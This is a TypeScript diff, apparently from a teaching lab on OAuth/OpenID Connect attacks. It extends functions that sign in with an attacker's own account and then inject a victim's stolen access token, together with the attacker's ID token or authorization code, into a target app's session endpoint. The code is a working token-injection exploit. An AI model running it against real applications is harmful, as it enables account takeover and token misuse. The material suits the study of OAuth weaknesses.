@@ -13,7 +13,7 @@ export const WALLPAPERS = 'https://wallpapers.example'
 export interface Loot {
   /** Ada’s, issued to the attacker’s app. */
   received?: string
-  /** Of the attacker’s own account, issued to the app that is attacked. */
+  /** What the response had beside the access token: an ID token of the attacker’s own account, or a code. */
   own?: string
   /** What that app has answered. */
   seen?: string
@@ -55,37 +55,49 @@ export async function collect({ url, globals }: Page): Promise<void> {
   // #endregion
 }
 
-/** Signs in to the attacked app with an account of the attacker’s own, and keeps the ID token of the response. */
+/** What comes with the response that is the attacker’s own, whatever they do with the access token. */
+function ownPart({ response_type }: ClientConfig): 'code' | 'id_token' {
+  return response_type === 'code' ? 'code' : 'id_token'
+}
+
+/** Signs in to the attacked app with an account of the attacker’s own, and keeps the ID token of the response, or its code. */
 export async function signInThemselves(
   globals: ServerGlobals,
   browser: PlainBrowser,
-  { authorization_endpoint, client_id, redirect_uri, scope }: ClientConfig,
+  config: ClientConfig,
   credentials: Readonly<Record<'username' | 'password', string>>,
 ): Promise<string> {
   // #region injected
   const { crypto } = globals
-  const { nonce } = JSON.parse((await browser.get(new URL('/random-value', redirect_uri).href)).body)
+  const { authorization_endpoint, client_id, redirect_uri, scope } = config
+  const part = ownPart(config)
+  const { nonce, ...challenge } = JSON.parse((await browser.get(new URL('/random-value', redirect_uri).href)).body)
   const state = base64url.encode(crypto.getRandomValues(new Uint8Array(16)))
   const request = new URL(authorization_endpoint)
   request.search = new URLSearchParams({
-    response_type: 'id_token token',
+    response_type: part === 'code' ? 'code' : 'id_token token',
     client_id,
     redirect_uri,
     scope,
     state,
     nonce,
+    ...challenge,
   }).toString()
   const onward = redirectOf(await browser.submit(await browser.get(request.href), credentials))
   const answer = redirectOf(await browser.submit(await browser.get(onward.href), { decision: 'approve' }))
-  return new URLSearchParams(answer.hash.slice(1)).get('id_token') ?? ''
+  return new URLSearchParams(part === 'code' ? answer.search : answer.hash.slice(1)).get(part) ?? ''
   // #endregion
 }
 
 /** Does what the attacked app’s page does with a response, but for one token: that is Ada’s. */
-export async function inject(browser: PlainBrowser, app: string, { received = '', own = '' }: Loot): Promise<string> {
+export async function inject(
+  browser: PlainBrowser,
+  config: ClientConfig,
+  { received = '', own = '' }: Loot,
+): Promise<string> {
   // #region injected
-  const response = new URLSearchParams({ access_token: received, id_token: own })
-  return (await browser.post(new URL('/session', app).href, response.toString())).body
+  const response = new URLSearchParams({ access_token: received, [ownPart(config)]: own })
+  return (await browser.post(new URL('/session', config.redirect_uri).href, response.toString())).body
   // #endregion
 }
 
